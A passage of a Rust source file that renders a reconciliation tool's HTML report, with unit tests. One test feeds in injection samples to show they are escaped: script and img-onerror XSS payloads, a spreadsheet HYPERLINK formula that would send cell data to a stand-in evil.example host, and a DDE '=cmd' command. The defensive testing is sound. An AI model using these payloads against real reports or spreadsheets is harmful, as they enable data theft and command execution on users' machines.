h1,td,.note{word-break:break-word;overflow-wrap:anywhere}\
table.wrap{table-layout:fixed;width:100%}table.wrap td{vertical-align:top}.w-class{width:6.5em}.w-amount{width:15em}.w-state{width:6.5em}.w-first{width:12.5em}.w-age{width:5em}\
@media print{body{margin:0}}";

/// Renders the page.
pub fn render(page: &Page) -> String {
    let s = &page.summary;
    let window = match &s.run.window {
        Some(w) => format!("{} .. {}", w.start, w.end),
        None => "whole files (no window)".into(),
    };
    html! {
        (DOCTYPE)
        html lang="en" {
            (head(s, &window))
            body {
                (page_header(s, &window))
                @for n in s.run.notes.iter().flatten() {
                    p.note { (text(n)) }
                }
                (counts_section(s))
                (totals_section(s))
                (copies_section(&page.copies, s))
                (charts_section(&page.history))
                (top_section(&page.top, started_at(s)))
                (backfill_section(&page.backfill, s))
                h2 { "Files" }
                ul #files {
                    @for (link, name) in &page.files {
                        li { a href=(link) { (Shown(name)) } }
                    }
                }
                (footer(s))
            }
        }
    }
    .into_string()
}

fn head(s: &RunSummary, window: &str) -> Markup {
    html! {
        head {
            meta charset="utf-8";
            // Nothing may load or run: the page works offline and as an attachment.
            meta http-equiv="Content-Security-Policy"
                content="default-src 'none'; style-src 'unsafe-inline'; img-src data:";
            meta name="viewport" content="width=device-width, initial-scale=1";
            title { "recon " (text(&s.run.job)) " " (Shown(window)) ": " (status_of(s)) }
            style { (PreEscaped(STYLE)) }
        }
    }
}

fn page_header(s: &RunSummary, window: &str) -> Markup {
    let status = status_of(s);
    let took = s
        .run
        .timings
        .as_ref()
        .map(|t| format!("{}.{:03} s", t.total_ms / 1000, t.total_ms % 1000));
    html! {
        header {
            h1 { "recon: " (text(&s.run.job)) }
            p #status {
                span class={ "badge " (status) } data-status=(status) { (status) }
                @if s.run.dry_run == Some(true) {
                    " " strong { "dry run" } ": nothing was written"
                }
            }
            table.meta #run {
                tr { th { "window" } td #window { (Shown(window)) } }
                tr { th { "run" } td { (text(s.run.run_id.as_deref().unwrap_or(""))) } }
                tr { th { "source" } td { (text(s.run.source.as_deref().unwrap_or(""))) } }
                tr { th { "target" } td { (text(s.run.target.as_deref().unwrap_or(""))) } }
                tr { th { "started" } td { (text(started_at(s).unwrap_or(""))) } }
                tr { th { "took" } td { (took.unwrap_or_default()) } }
            }
        }
    }
}

fn footer(s: &RunSummary) -> Markup {
    let version = s
        .run
        .recon_version
        .as_deref()
        .unwrap_or(env!("CARGO_PKG_VERSION"));
    html! {
        footer.meta {
            p {
                "recon " (Shown(version)) ". Amounts are exact (from minor units); text that a spreadsheet \
                 would run as a formula starts with " code { "'" } ", as in the CSV files. Characters that \
                 reorder or hide text (bidirectional controls, zero-width characters) are shown escaped, as "
                code { "\\u202e" } "; the CSV files hold them as they are."
            }
        }
    }
}

fn counts_section(s: &RunSummary) -> Markup {
    let rows = [
        (Class::SourceRecords, "source records"),
        (Class::TargetRecords, "target records"),
        (Class::Matched, "matched"),
        (Class::Gaps, "gaps (in the source, missing in the target)"),
        (Class::Orphans, "orphans (in the target only)"),
        (Class::Mismatches, "mismatches"),
        (Class::Duplicates, "duplicates"),
        (Class::Pending, "pending (too young to judge)"),
        (Class::Unplaced, "unplaced (no time to place them)"),
        (Class::Resolved, "resolved since the last run"),
        (Class::Backfilled, "backfilled"),
        (Class::BackfillFailed, "backfill failed"),
    ];
    html! {
        h2 { "Counts" }
        table #counts {
            tr { th { "class" } th.n { "IDs" } }
            @for (class, label) in rows {
                @if let Some(n) = s.counts.present(class) {
                    tr { td { (label) } td.n data-count=(class.key()) { (n) } }
                }
            }
        }
    }
}

fn totals_section(s: &RunSummary) -> Markup {
    let totals = match summary_totals(s) {
        Ok(t) => t,
        Err(e) => {
            return html! { h2 { "Totals per currency" } p.note { (text(&format!("{e:#}"))) } }
        }
    };
    html! {
        h2 { "Totals per currency" }
        table #totals {
            tr {
                th { "currency" } th.n { "source records" } th.n { "source total" }
                th.n { "target records" } th.n { "target total" } th.n { "records delta" }
                th.n { "total delta" }
            }
            @for t in &totals { (totals_row(t)) }
        }
    }
}

/// The money each side counts more than once (summary.json
/// `counted_twice`), a row per side and currency, and the copies to review.
fn copies_section((lines, count): &(Vec<CopyLine>, u64), s: &RunSummary) -> Markup {
    let mut twice = Vec::new();
    for (side, list) in s
        .run
        .counted_twice
        .iter()
        .flat_map(|t| [("source", &t.source), ("target", &t.target)])
    {
        for t in list {
            let (Ok(Some(c)), Ok(minor)) = (t.currency(side), t.minor(side)) else {
                continue;
            };
            twice.push((side, c, t.records, minor));
        }
    }
    html! {
        @if !twice.is_empty() {
            h2 { "Money counted twice" }
            p.meta {
                "Copies of one external ID beyond the first (copy 1, kept as the reference): \
                 their money is in the totals above more than once."
            }
            table #counted-twice {
                tr { th { "" } th { "side" } th { "currency" } th.n { "copies beyond the first" } th.n { "amount" } }
                @for (side, c, records, minor) in &twice {
                    tr data-side=(side) data-currency=(c.code()) {
                        td { "money counted twice" }
                        td { (side) }
                        td { (c.code()) }
                        td.n { (records) }
                        td.n data-counted-twice=(side) { (money(*minor, *c)) }
                    }
                }
            }
        }
        @if *count > 0 {
            h2 { "Duplicate copies to review" }
            p.meta {
                "Every copy of an external ID a side holds more than once (" (super::copies::FILE) "). \
                 Copy 1 is kept as the reference; review the others in their system: recon never deletes \
                 or voids them."
                @if (lines.len() as u64) < *count {
                    " The first " (lines.len()) " of " (count) " are listed."
                }
            }
            table id="copies" class="wrap" {
                tr { th { "external ID" } th { "side" } th.n { "copy" } th { "native ID" } th.n { "amount" } th { "" } }
                @for l in lines {
                    tr data-copy=(Shown(&l.copy)) {
                        td { (text(&l.key)) }
                        td { (text(&l.side)) }
                        td.n { (text(&l.copy)) }
                        td { (text(&l.native_id)) }
                        td.n { (Shown(&l.amount)) }
                        td { @if l.copy == "1" { "kept" } @else { strong { "review" } } }
                    }
                }
            }
        }
    }
}

fn totals_row(t: &RunTotals) -> Markup {
    let rd = i128::from(t.target_records) - i128::from(t.source_records);
    let (code, st, tt, dt) = match t.currency {
        Some(c) => (
            c.code().to_string(),
            money(t.source_minor, c),
            money(t.target_minor, c),
            signed_money(t.target_minor - t.source_minor, c),
        ),
        None => (
            "(no amount)".into(),
            String::new(),
            String::new(),
            String::new(),
        ),
    };
    html! {
        tr data-currency=(code) {
            td { (code) }
            td.n { (t.source_records) }
            td.n data-total="source" { (st) }
            td.n { (t.target_records) }
            td.n data-total="target" { (tt) }
            td.n { (format!("{rd:+}")) }
            td.n.neg[t.target_minor < t.source_minor] data-total="delta" { (dt) }
        }
    }
}

const CHART_W: u128 = 480;
const CHART_H: u128 = 120;
const PAD_L: u128 = 8;
const PAD_T: u128 = 14;

/// `v * span / max` without overflow or floating point.
fn scale(v: u128, max: u128, span: u128) -> u128 {
    if max == 0 {
        0
    } else if max <= u128::MAX / span {
        v * span / max
    } else {
        v / (max / span)
    }
}

/// A bar chart of one series: one bar per run, above (and, for money,
/// below) a zero line. `label` renders a value.
fn bar_chart(
    id: &str,
    caption: &str,
    runs: &[ChartRun],
    values: &[Option<i128>],
    label: &dyn Fn(i128) -> String,
) -> Markup {
    let max_pos = values
        .iter()
        .flatten()
        .map(|v| (*v).max(0))
        .max()
        .unwrap_or(0) as u128;
    let max_neg = values
        .iter()
        .flatten()
        .map(|v| v.min(&0).unsigned_abs())
        .max()
        .unwrap_or(0);
    let range = max_pos + max_neg;
    let zero_y = PAD_T + scale(max_pos, range, CHART_H);
    let slot = CHART_W / (values.len().max(1) as u128);
    let bars = Bars {
        slot,
        bar: (slot * 7 / 10).max(1),
        zero_y,
        range,
    };
    let (w, ht) = (PAD_L * 2 + CHART_W + 200, PAD_T + CHART_H + 30);
    let (right, bottom) = (PAD_L + CHART_W + 6, PAD_T + CHART_H + 20);
    html! {
        figure.chart data-series=(Shown(id)) {
            figcaption { (Shown(caption)) }
            svg xmlns="http://www.w3.org/2000/svg" role="img" width=(w) height=(ht)
                viewBox={ "0 0 " (w) " " (ht) } {
                line x1=(PAD_L) y1=(zero_y) x2=(PAD_L + CHART_W) y2=(zero_y) stroke="#9aa5b1" {}
                @for (i, (run, v)) in runs.iter().zip(values).enumerate() {
                    @if let Some(v) = *v {
                        (bars.rect(i, run, v, i + 1 == runs.len(), label))
                    }
                }
                @if max_pos > 0 {
                    text x=(right) y=(PAD_T + 4) { (Shown(label(max_pos as i128))) }
                }
                text x=(right) y=(zero_y + 4) { "0" }
                @if max_neg > 0 {
                    text x=(right) y=(PAD_T + CHART_H) { (Shown(label(-(max_neg as i128)))) }
                }
                @if let (Some(first), Some(last)) = (runs.first(), runs.last()) {
                    text x=(PAD_L) y=(bottom) { (Shown(day(&first.started_at))) }
                    text x=(PAD_L + CHART_W) y=(bottom) text-anchor="end" { (Shown(day(&last.started_at))) }
                }
            }
        }
    }
}

/// Where a chart's bars go: `slot` px per run, bars `bar` wide, the
/// zero line at `zero_y`, `range` the values' span (CHART_H px).
struct Bars {
    slot: u128,
    bar: u128,
    zero_y: u128,
    range: u128,
}

impl Bars {
    /// The `i`-th run's bar for `v`; the current run (`current`) outlined.
    fn rect(
        &self,
        i: usize,
        run: &ChartRun,
        v: i128,
        current: bool,
        label: &dyn Fn(i128) -> String,
    ) -> Markup {
        let x = PAD_L + i as u128 * self.slot + (self.slot - self.bar) / 2;
        let len = scale(v.unsigned_abs(), self.range, CHART_H).max(u128::from(v != 0));
        let (y, color) = if v >= 0 {
            (self.zero_y - len, "#3f6fb5")
        } else {
            (self.zero_y, "#c62828")
        };
        html! {
            rect x=(x) y=(y) width=(self.bar) height=(len) fill=(color)
                stroke=[current.then_some("#1d2430")] stroke-width=[current.then_some("1.5")]
                data-run=(Shown(&run.run_id)) data-value=(v) {
                title { (Shown(&run.started_at)) ": " (Shown(label(v))) " (" (Shown(&run.status)) ")" }
            }
        }
    }
}

fn charts_section(runs: &[ChartRun]) -> Markup {
    let currencies: BTreeSet<Currency> =
        runs.iter().flat_map(|r| r.deltas.keys().copied()).collect();
    html! {
        h2 { "The last " (runs.len()) " run" @if runs.len() != 1 { "s" } }
        div.charts #charts {
            @for (i, class) in Class::DISCREPANCIES.iter().enumerate() {
                @let values: Vec<Option<i128>> = runs.iter().map(|r| r.classes[i].map(i128::from)).collect();
                (bar_chart(class.key(), class.key(), runs, &values, &|v| v.to_string()))
            }
            @for c in currencies {
                @let values: Vec<Option<i128>> = runs.iter().map(|r| r.deltas.get(&c).copied()).collect();
                (bar_chart(
                    &format!("delta-{}", c.code()),
                    &format!("money delta {} (target minus source)", c.code()),
                    runs,
                    &values,
                    &|v| signed_money(v, c),
                ))
            }
        }
    }
}

fn top_section(top: &[TopRow], started: Option<&str>) -> Markup {
    html! {
        h2 { "Largest discrepancies" }
        @if top.is_empty() {
            p #top-none { "No gap, orphan or money mismatch with an amount." }
        } @else {
            p.meta { "The " (TOP_PER_CURRENCY) " largest amounts per currency (a mismatch: target minus source)." }
            table id="top" class="wrap" {
                tr {
                    th class="w-class" { "class" } th { "external ID" }
                    th class="n w-amount" { "amount" } th class="w-state" { "state" }
                    th class="w-first" { "first seen" } th class="n w-age" { "age" }
                }
                @for r in top {
                    tr data-class=(r.class) {
                        td { (r.class) }
                        td { (text(&r.key)) }
                        td.n { (money(r.minor, r.currency)) }
                        td { (text(&r.state)) }
                        td { (text(&r.first_seen)) }
                        td.n { (Shown(started.map(|t| age(&r.first_seen, t)).unwrap_or_default())) }
                    }
                }
            }
        }
    }
}

fn backfill_section(b: &Backfill, s: &RunSummary) -> Markup {
    html! {
        h2 { "Backfill" }
        div #backfill {
            @if let Some(n) = b.planned {
                p {
                    (n) " item" @if n != 1 { "s" } " planned in plan.jsonl"
                    @if s.run.dry_run == Some(true) {
                        " (dry run: review it, then " code { "recon apply --plan" } ")"
                    }
                    "."
                }
            }
            @if b.outcomes.is_empty() {
                @if b.planned.is_none() { p { "Nothing was written." } }
            } @else {
                table {
                    tr { th { "outcome" } th.n { "items" } }
                    @for (outcome, n) in &b.outcomes {
                        tr { td { (text(outcome)) } td.n data-outcome=(Shown(outcome)) { (n) } }
                    }
                }
            }
            @if !b.failures.is_empty() {
                table id="failures" class="wrap" {
                    tr { th { "refused ID" } th { "error" } }
                    @for (k, e) in &b.failures {
                        tr { td { (text(k)) } td { (text(e)) } }
                    }
                }
            }
        }
    }
}

/// The day of an RFC 3339 instant.
fn day(t: &str) -> &str {
    t.get(..10).unwrap_or(t)
}

#[cfg(test)]
#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    /// The runs the charts show, listed a page at a time, are the ones the
    /// whole list gives: before the newest run, before one in the middle
    /// (a page made again by `recon report`) and before one the job does
    /// not have, with runs that recorded no counts (failed or unfinished)
    /// and another job's runs among them.
    #[tokio::test]
    async fn the_charts_take_the_runs_the_whole_list_gives() {
        use crate::state::prelude::*;
        let tmp = tempfile::tempdir().unwrap();
        let url = format!("sqlite://{}", tmp.path().join("state.db").display());
        let store = StateStore::open(&url).await.unwrap();
        let window = recon_core::Window {
            start: "2026-11-28T00:00:00Z".parse().unwrap(),
            end: "2026-11-29T00:00:00Z".parse().unwrap(),
        };
        for i in 0..160 {
            let job = if i % 7 == 3 { "other" } else { "nightly" };
            let id = store.start_run(job, window, false).await.unwrap();
            let counts = if i % 5 == 0 {
                json!(null)
            } else {
                json!({"gaps": i, "matched": 1})
            };
            if i % 11 != 0 {
                let status = if counts.is_null() { "failed" } else { "clean" };
                store
                    .finish_run(&id, status, &counts, None, None)
                    .await
                    .unwrap();
            }
        }
        let all = store
            .recent_runs(Some("nightly"), usize::MAX)
            .await
            .unwrap();
        assert!(all.len() > 130);
        // What the charts took from the whole list.
        let whole = |run_id: &str, n: usize| -> Vec<String> {
            let skip = all.iter().position(|r| r.id == run_id).map_or(0, |i| i + 1);
            all.iter()
                .skip(skip)
                .filter(|r| {
                    r.counts
                        .as_ref()
                        .is_some_and(|c| Counts::of_json(c).present(Class::Gaps).is_some())
                })
                .take(n)
                .map(|r| r.id.clone())
                .collect()
        };
        // The middle run is past the first page of a 29-run chart (117).
        let (newest, middle) = (all[0].id.clone(), all[all.len() - 12].id.clone());
        for run_id in [newest.as_str(), middle.as_str(), "nightly-none"] {
            for n in [0, 1, 2, 5, 29, 40, 200] {
                let paged: Vec<String> = earlier_runs(&store, "nightly", run_id, n)
                    .await
                    .unwrap()
                    .into_iter()
                    .map(|r| r.id)
                    .collect();
                assert_eq!(paged, whole(run_id, n), "before {run_id}, {n} runs");
            }
        }
        // Before the middle run fewer than 29 remain (every page listed);
        // before the newest, 29 of the first page's 117.
        assert!(!whole(&middle, 29).is_empty() && whole(&middle, 29).len() < 29);
        assert_eq!(whole(&newest, 29).len(), 29);
    }

    proptest::proptest! {
        /// Rows turned away below a currency's floor never change the
        /// result: the same rows as a naive sort of everything (by amount,
        /// then key), `n` per currency, ties at the floor included.
        #[test]
        fn largest_keeps_what_a_full_sort_keeps(
            rows in proptest::collection::vec((0usize..3, -40i128..40, 0u16..500), 0..600),
            n in 1usize..6,
            split in 0usize..600,
        ) {
            let currencies = ["USD", "EUR", "JPY"].map(|c| Currency::parse(c).unwrap());
            let row = |&(c, minor, k): &(usize, i128, u16)| TopRow {
                class: "gap",
                key: format!("k{k:03}"),
                minor,
                currency: currencies[c],
                state: String::new(),
                first_seen: String::new(),
            };
            let mut top = Largest::new(n);
            for r in &rows {
                let r = row(r);
                if top.admits(r.currency, r.minor) {
                    top.push(r);
                }
            }
            // The same rows in two lists (as report.html reads its files
            // on two threads), merged, keep the same.
            let (a, b) = rows.split_at(split.min(rows.len()));
            let (mut first, mut second) = (Largest::new(n), Largest::new(n));
            for (list, part) in [(&mut first, a), (&mut second, b)] {
                for r in part {
                    let r = row(r);
                    if list.admits(r.currency, r.minor) {
                        list.push(r);
                    }
                }
            }
            first.merge(second);
            let merged: Vec<_> = first.finish().into_iter().map(|r| (r.currency, r.minor, r.key)).collect();
            let got: Vec<_> = top.finish().into_iter().map(|r| (r.currency, r.minor, r.key)).collect();
            proptest::prop_assert_eq!(&merged, &got);
            let mut want = Vec::new();
            // In the currencies' order, as the kept rows are listed.
            let mut order = currencies.to_vec();
            order.sort();
            for c in order {
                let mut of: Vec<TopRow> = rows.iter().map(row).filter(|r| r.currency == c).collect();
                if of.is_empty() {
                    continue;
                }
                Largest::trim(&mut of, n);
                want.extend(of.into_iter().map(|r| (r.currency, r.minor, r.key)));
            }
            proptest::prop_assert_eq!(got, want);
        }
    }

    fn usd() -> Currency {
        Currency::parse("USD").unwrap()
    }

    fn summary() -> RunSummary {
        RunSummary::of_json(json!({
            "job": "charges",
            "run_id": "charges-1",
            "source": "file <b>x</b>",
            "target": "sql",
            "window": {"start": "2026-11-28T05:00:00Z", "end": "2026-11-29T05:00:00Z"},
            "gaps": 2, "orphans": 1, "mismatches": 0, "duplicates": 0, "matched": 7,
            "exit_status": 1,
            "notes": [],
            "timings": {"started_at": "2026-11-30T06:00:00Z", "total_ms": 1234},
            "totals": {
                "source": [{"currency": "USD", "records": 9, "total": "x", "total_minor": "9007199254740993"}],
                "target": [{"currency": "USD", "records": 8, "total": "x", "total_minor": "9007199254740000"}]
            }
        }))
        .unwrap()
    }

    fn page(top: Vec<TopRow>) -> Page {
        let s = summary();
        let totals = summary_totals(&s).unwrap();
        Page {
            history: vec![chart_run(
                "charges-1",
                "2026-11-30T06:00:00Z",
                "discrepancies",
                Some(&s.counts),
                &totals,
            )],
            summary: s,
            top,
            ..Page::default()
        }
    }

    #[test]
    fn money_counted_twice_and_the_copies_to_review_are_shown() {
        let mut p = page(Vec::new());
        assert!(!render(&p).contains("counted-twice"), "nothing when none");
        p.summary.run.counted_twice = Some(serde_json::from_value(json!({
            "source": [],
            "target": [{"currency": "JPY", "records": 1, "total": "1004", "total_minor": "1004"}]
        })).unwrap());
        let line = |copy: &str, id: &str| CopyLine {
            key: "=ch_4".into(),
            side: "target".into(),
            copy: copy.into(),
            native_id: id.into(),
            amount: "1004 JPY".into(),
        };
        let mut credit = line("3", "131");
        credit.amount = "-1004 JPY".into();
        p.copies = (vec![line("1", "9"), line("2", "130"), credit], 4);
        let html = render(&p);
        assert!(
            html.contains(
                "<tr data-side=\"target\" data-currency=\"JPY\"><td>money counted twice</td><td>target</td><td>JPY</td><td class=\"n\">1</td><td class=\"n\" data-counted-twice=\"target\">1004 JPY</td></tr>"
            ),
            "{html}"
        );
        assert!(!html.contains("data-counted-twice=\"source\""), "{html}");
        assert!(html.contains("The first 3 of 4 are listed."), "{html}");
        assert!(
            html.contains("<td class=\"n\">-1004 JPY</td>"),
            "a credit is a number: {html}"
        );
        assert!(
            html.contains("<tr data-copy=\"2\"><td>&#39;=ch_4</td><td>target</td><td class=\"n\">2</td><td>130</td><td class=\"n\">1004 JPY</td><td><strong>review</strong></td></tr>"),
            "{html}"
        );
        assert!(
            html.contains("<td>9</td><td class=\"n\">1004 JPY</td><td>kept</td>"),
            "{html}"
        );
    }

    #[test]
    fn text_from_sources_renders_inert() {
        let evil = [
            "<script>alert(1)</script>",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        ];
        let top = evil
            .iter()
            .map(|k| TopRow {
                class: "gap",
                key: k.to_string(),
                minor: 100,
                currency: usd(),
                state: "new".into(),
                first_seen: "2026-11-30T06:00:00Z".into(),
            })
            .collect();
        let mut p = page(top);
        p.summary.run.notes = Some(vec!["<img src=x onerror=alert(1)>".into()]);
        p.summary.run.job = "=cmd|' /C calc'!A0".into();
        p.backfill.failures = vec![("<script>".into(), "=HYPERLINK(\"x\")".into())];
        p.backfill.outcomes.insert("failed".into(), 1);
        p.files = vec![(href("", "a\"b<c>.csv"), "a\"b<c>.csv".into())];
        let html = render(&p);
        let lower = html.to_ascii_lowercase();
        assert!(!lower.contains("<script"), "{html}");
        assert!(!lower.contains("<img"), "{html}");
        assert!(
            html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
            "{html}"
        );
        // Formula text is neutralised as in the CSVs, then escaped.
        assert!(
            html.contains(
                "&#39;=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)"
            ),
            "{html}"
        );
        assert!(
            html.contains("recon: &#39;=cmd|&#39; /C calc&#39;!A0"),
            "{html}"
        );
        assert!(!html.contains(">=HYPERLINK("), "{html}");
        assert!(html.contains("href=\"a%22b%3Cc%3E.csv\""), "{html}");
        assert!(html.contains("file &lt;b&gt;x&lt;/b&gt;"));
        // No script and nothing loaded from anywhere.
        assert!(!lower.contains("src=\"http"), "{html}");
        assert!(html.contains("default-src 'none'"));
    }

    #[test]
    fn hidden_characters_are_shown_escaped() {
        let hidden = [
            '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}',
            '\u{2068}', '\u{2069}', '\u{200e}', '\u{200f}', '\u{061c}', '\u{200b}', '\u{200c}',
            '\u{200d}', '\u{2060}', '\u{feff}', '\u{0}', '\u{7}', '\u{1b}', '\u{7f}', '\u{85}',
        ];
        for c in hidden {
            let out = escape(&format!("ch_{c}x"));
            assert_eq!(out, format!("ch_\\u{:04x}x", u32::from(c)), "{c:?}");
        }
        assert_eq!(escape("ch_\u{202e}fdp.exe"), "ch_\\u202efdp.exe");
        // Visible text, tabs and line ends are left alone.
        for c in [
            'a', 'é', '東', '💶', '\t', '\n', '\r', ' ', '\u{00a0}', '\u{2010}', '\u{2070}',
        ] {
            assert_eq!(escape(&c.to_string()), c.to_string(), "{c:?}");
        }
        let mut p = page(vec![TopRow {
            class: "gap",
            key: "ch_\u{2067}evil\u{2069}".into(),
            minor: 100,
            currency: usd(),
            state: "new".into(),
            first_seen: "2026-11-30T06:00:00Z".into(),
        }]);
        p.summary.run.source = Some("exports/\u{200b}a.csv".into());
        let html = render(&p);
        assert!(html.contains(">ch_\\u2067evil\\u2069<"), "{html}");
        assert!(html.contains("exports/\\u200ba.csv"), "{html}");
        assert!(!html.chars().any(is_hidden), "{html}");
    }

    #[test]
    fn money_is_exact_beyond_2_pow_53() {
        // 2^53 + 1 minor units: a double would print …992.
        let html = render(&page(vec![TopRow {
            class: "gap",
            key: "ch_big".into(),
            minor: i128::from(i64::MAX),
            currency: usd(),
            state: "persisting".into(),
            first_seen: "2026-11-27T06:00:00Z".into(),
        }]));
        assert!(html.contains("90071992547409.93 USD"), "{html}");
        assert!(html.contains("90071992547400.00 USD"), "{html}");
        assert!(html.contains("-9.93 USD"), "{html}");
        assert!(html.contains("92233720368547758.07 USD"), "{html}");
        assert!(
            html.contains(">3d 0h<"),
            "age of the persisting one: {html}"
        );
        let totals = summary_totals(&summary()).unwrap();
        assert_eq!(totals[0].source_minor, 9_007_199_254_740_993);
        // Sums beyond 64 bits stay exact too.
        let mut s = summary();
        s.run.totals.as_mut().unwrap().source[0].total_minor =
            Some("170141183460469231731687303715884105727".into());
        let t = summary_totals(&s).unwrap();
        assert_eq!(t[0].source_minor, i128::MAX);
        let mut p = page(vec![]);
        p.history[0].deltas.insert(usd(), i128::MIN + 1);
        let html = render(&p);
        assert!(
            html.contains("-1701411834604692317316873037158841057.27 USD"),
            "{html}"
        );
    }

    #[test]
    fn charts_have_one_bar_per_run_and_scale_without_overflow() {
        assert_eq!(scale(u128::MAX, u128::MAX, CHART_H), CHART_H);
        assert_eq!(scale(5, 10, CHART_H), CHART_H / 2);
        assert_eq!(scale(0, 0, CHART_H), 0);
        let mut p = page(vec![]);
        let mut first = p.history[0].clone();
        first.run_id = "charges-0".into();
        first.classes = [Some(5), None, Some(0), Some(0)];
        p.history.insert(0, first);
        let html = render(&p);
        let gaps = html
            .split("data-series=\"gaps\"")
            .nth(1)
            .unwrap()
            .split("</figure>")
            .next()
            .unwrap();
        assert_eq!(gaps.matches("<rect").count(), 2, "{gaps}");
        let orphans = html
            .split("data-series=\"orphans\"")
            .nth(1)
            .unwrap()
            .split("</figure>")
            .next()
            .unwrap();
        assert_eq!(
            orphans.matches("<rect").count(),
            1,
            "no bar for an unrecorded count"
        );
        assert!(html.contains("data-series=\"delta-USD\""));
    }

    #[test]
    fn chart_attributes_are_escaped_and_svg_elements_closed() {
        let mut p = page(vec![]);
        p.history[0].run_id = "a\"b><\u{202e}c".into();
        p.history[0].status = "<i>x</i>".into();
        let html = render(&p);
        assert!(
            html.contains("data-run=\"a&quot;b&gt;&lt;\\u202ec\""),
            "{html}"
        );
        assert!(html.contains("(&lt;i&gt;x&lt;/i&gt;)</title>"), "{html}");
        // An SVG line written as a bare start tag would swallow the bars.
        let lines = html.matches("<line ").count();
        assert!(
            lines > 0 && html.matches("</line>").count() == lines,
            "{html}"
        );
        assert!(!html.chars().any(is_hidden), "{html}");
    }

    #[test]
    fn ages_read_like_a_person_would_say_them() {
        assert_eq!(age("2026-11-27T06:00:00Z", "2026-11-30T09:00:00Z"), "3d 3h");
        assert_eq!(age("2026-11-30T01:00:00Z", "2026-11-30T06:30:00Z"), "5h");
        assert_eq!(age("2026-11-30T06:00:00Z", "2026-11-30T06:00:00Z"), "0m");
        assert_eq!(age("", "2026-11-30T06:00:00Z"), "");
    }
}
